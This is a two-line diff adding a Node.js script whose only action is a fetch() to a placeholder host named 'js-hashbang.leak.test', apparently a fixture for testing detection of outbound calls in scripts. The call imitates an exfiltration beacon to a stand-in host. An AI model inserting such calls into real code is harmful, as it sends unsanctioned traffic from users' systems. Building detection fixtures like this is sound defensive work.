@@ -1,0 +1,2 @@
+#!/usr/bin/env node
+fetch("https://js-hashbang.leak.test/")
